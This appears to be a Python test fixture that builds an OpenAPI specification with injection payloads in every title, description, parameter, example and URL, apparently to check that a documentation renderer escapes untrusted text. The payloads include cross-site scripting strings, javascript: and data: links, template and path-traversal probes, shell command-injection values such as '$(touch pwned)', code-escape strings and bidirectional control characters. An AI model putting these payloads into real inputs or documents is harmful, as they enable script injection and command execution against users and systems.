"""A document in which every text tries to be more: markup, script, a link, a command, code, a change of direction."""

from __future__ import annotations

from typing import Any

JS = "window.hacked=1"
HTML = [
    f"<script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"--><script>{JS}</script>",
    f"]]><script>{JS}</script>",
    f"</code></pre><script>{JS}</script>",
    f"<scr<script>ipt>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f'" onmouseover="{JS}',
    f"' onfocus='{JS}' autofocus='",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<details open ontoggle={JS}>",
    f"<body onload={JS}>",
    f"<a href=javascript:{JS}>x</a>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<math><mtext><img src=x onerror={JS}></mtext></math>",
    f"<input autofocus onfocus={JS}>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<style>@import 'http://evil.test/x.css'</style>",
    "<object data=http://evil.test/x></object>",
    "<embed src=http://evil.test/x>",
    "<form action=http://evil.test/><button>x</button></form>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<template><script>{JS}</script>",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<script/x>{JS}</script>",
    f"<video><source onerror={JS}>",
    f"<marquee onstart={JS}>",
]
MARKDOWN = [
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](java\tscript:window.hacked=1)",
    "[x](&#106;avascript:window.hacked=1)",
    "[x](javascript&colon;window.hacked=1)",
    "[x](<javascript:window.hacked=1>)",
    "[x]( javascript:window.hacked=1 'y')",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>window.hacked=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:window.hacked=1>",
    "<data:text/html,x>",
    "[x][ref]\n\n[ref]: javascript:window.hacked=1",
    "[x]\n\n[x]: data:text/html,x",
    "![x](http://evil.test/x.png)",
    "![x](javascript:window.hacked=1)",
    "![x](data:image/svg+xml,<svg onload=window.hacked=1>)",
    "[![x](http://evil.test/y.png)](javascript:x)",
    "x{: onclick=window.hacked=1 }",
    "# x { onclick=window.hacked=1 }",
    "[x](#y){ onclick=window.hacked=1 href=javascript:x }",
    "`x`{ .python onmouseover=window.hacked=1 }",
    "```{ onclick=window.hacked=1 }\nx\n```",
    "` tick",
    "`` ticks ` tick",
    "```\nopen fence",
    "~~~\nopen",
    "<div markdown=1 onclick=window.hacked=1>x</div>",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | x |",
    '--8<-- "mkdocs.yml"',
    ';--8<-- "mkdocs.yml"',
    "::: os.path.join",
    '!!! danger "<img src=x onerror=window.hacked=1>"\n    x',
    '=== "<img src=x onerror=window.hacked=1>"\n    x',
    "[os.path.join][]",
    "[x](../../../../etc/passwd)",
    "---\ntitle: x\n---",
    "\n---\nx: y\n",
    "{{ config }}",
    "{% include 'mkdocs.yml' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# x #}",
    "{% for x in y %}",
    "$x$ $$y$$",
    "\\(x\\)",
    "%(x)s {x} {0}",
]
SHELL = [
    "$(touch pwned)",
    "`touch pwned`",
    "'; touch pwned; '",
    '"; touch pwned; "',
    "; touch pwned",
    "| touch pwned",
    "& touch pwned &",
    "\ntouch pwned\n",
    "' \\\n; touch pwned; '",
    "${x:=$(touch pwned)}",
    "$((a[$(touch pwned)]))",
    "}; touch pwned; {",
    '\\"; touch pwned #',
    "\\'; touch pwned #",
    "'\"'\"'; touch pwned #",
    "<(touch pwned)",
    "!touch",
    "-o pwned",
    "@pwned",
    "--output pwned",
]
CODE = [
    '"""\nopen("pwned", "w")\n"""',
    "'''\nopen('pwned', 'w')\n'''",
    '""" + str(open("pwned", "w")) + """',
    '\\"""\nopen("pwned", "w")\n"""',
    '"); open("pwned", "w"); ("',
    "'); open('pwned', 'w'); ('",
    "\nopen('pwned', 'w')\n",
    "# x\nopen('pwned', 'w')",
    "\\",
    "\\N{BULLET",
    "\\x",
    "\\u12",
    "{open('pwned', 'w')}",
    '"]\n[project.scripts]\nx = "y"',
    "`;require('fs').writeFileSync('pwned','');`",
    "${require('fs').writeFileSync('pwned','')}",
    "*/ require('fs').writeFileSync('pwned','') /*",
    "</script>",
    "\u2028require('fs').writeFileSync('pwned','')",
    "__proto__",
    "constructor",
    "__import__('os')",
]
BIDI = [f"a{sign}b" for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
"""Signs that turn the direction of what comes after them, so that code reads as it does not run."""

PAYLOADS = [*HTML, *MARKDOWN, *SHELL, *CODE, *BIDI]
_OF_AN_OPERATION = 24


def document() -> dict[str, Any]:
    """Return a document with each payload in each place of an operation, and many in places that occur once."""
    everything = "\n\n".join(PAYLOADS)
    spec: dict[str, Any] = {
        "openapi": "3.1.0",
        "info": {
            "title": f"Shop {HTML[1]} {SHELL[0]} {BIDI[4]}",
            "version": "1.0.0",
            "summary": f"{HTML[2]} {MARKDOWN[0]} {BIDI[0]} {CODE[0]}",
            "description": everything,
            "termsOfService": "javascript:window.hacked=1",
            "contact": {
                "name": f"{HTML[10]} {BIDI[1]} {CODE[0]}",
                "url": "javascript:window.hacked=1",
                "email": f"{HTML[0]}@x",
            },
            "license": {"name": f"{HTML[0]} {CODE[0]} {CODE[13]} {BIDI[2]}", "url": "data:text/html,x"},
        },
        "servers": [{"url": f"https://shop.test/{SHELL[0]}{HTML[11]}", "description": everything}],
        "externalDocs": {"url": "javascript:window.hacked=1", "description": everything},
        "tags": [],
        "paths": {},
        "webhooks": {},
        "security": [{"key": []}],
        "components": {
            "schemas": {},
            "securitySchemes": {
                "key": {"type": "apiKey", "in": "query", "name": f"k{SHELL[0]}{HTML[11]}", "description": everything}
            },
        },
    }
    for number, start in enumerate(range(0, len(PAYLOADS), _OF_AN_OPERATION)):
        _add_operation(spec, number, PAYLOADS[start : start + _OF_AN_OPERATION])
    return spec


def _add_operation(spec: dict[str, Any], number: int, payloads: list[str]) -> None:
    together, name = "\n\n".join(payloads), f"Thing{number}"
    tag = f"tag {number} {' '.join(payloads)}"
    spec["tags"].append(
        {
            "name": tag,
            "description": together,
            "externalDocs": {"url": "javascript:window.hacked=1", "description": together},
        }
    )
    spec["components"]["schemas"][name] = {
        "type": "object",
        "title": " ".join(payloads),
        "description": together,
        "required": payloads,
        "example": dict.fromkeys(payloads, together),
        "properties": {
            each: {
                "type": "string",
                "title": each,
                "description": each,
                "default": each,
                "examples": [each],
                "x-unit": each,
            }
            for each in payloads
        }
        | {
            "choice": {"type": "string", "enum": payloads, "description": together},
            "fixed": {"const": payloads[0]},
            "pattern": {
                "type": "string",
                "pattern": "^" + payloads[0].replace("\\", "").replace("(", "").replace("[", ""),
            },
        },
    }
    schema = {"$ref": f"#/components/schemas/{name}"}
    parameters = [
        {
            "name": each,
            "in": place,
            "required": index % 3 > 0,
            "description": each,
            "example": each,
            "schema": {"type": "string", "default": each},
        }
        for index, (each, place) in enumerate(zip(payloads, ["query", "cookie"] * len(payloads), strict=False))
    ]
    parameters.append(
        {"name": "X-Plain", "in": "header", "required": True, "schema": {"type": "string"}, "example": payloads[0]}
    )
    operation = {
        "operationId": f"op {number} {payloads[0]}",
        "tags": [tag],
        "summary": " ".join(payloads),
        "description": together,
        "deprecated": number % 2 == 0,
        "externalDocs": {"url": "javascript:window.hacked=1", "description": together},
        "x-key-pairs": [{payloads[0]: each} for each in payloads],
        "parameters": parameters,
        "requestBody": {
            "description": together,
            "content": {
                "application/json": {
                    "schema": schema,
                    "examples": {
                        each: {"summary": each, "description": each, "value": {each: each}} for each in payloads
                    },
                },
                f'text/plain; x="{payloads[0]}"': {"schema": {"type": "string"}, "example": together},
            },
        },
        "responses": {
            "200": {
                "description": together,
                "headers": {"X-Count": {"description": together, "schema": {"type": "string", "example": together}}},
                "content": {
                    "application/json": {
                        "schema": schema,
                        "examples": {each: {"summary": each, "value": {each: each}} for each in payloads},
                    }
                },
            },
            "default": {
                "description": together,
                "content": {f"text/html; x={payloads[0]}": {"schema": {"type": "string"}, "example": together}},
            },
        },
    }
    text = {
        "operationId": f"text {number}",
        "tags": [tag],
        "parameters": [
            {"name": "p", "in": "path", "required": True, "schema": {"type": "string"}, "example": payloads[-1]}
        ],
        "requestBody": {"content": {f'text/x; y="{payloads[1]}"': {"schema": {"type": "string"}, "example": together}}},
        "responses": {"204": {"description": together}},
    }
    path = "".join(each for each in payloads[0] if each not in "{}")
    spec["paths"][f"/{number}/{path}"] = {"post": operation, "summary": together, "description": together}
    spec["paths"][f"/text/{number}/{{p}}"] = {"put": text}
    spec["webhooks"][f"hook {number} {payloads[0]}"] = {
        "post": {
            "summary": together,
            "description": together,
            "requestBody": {"content": {"application/json": {"schema": schema}}},
        }
    }
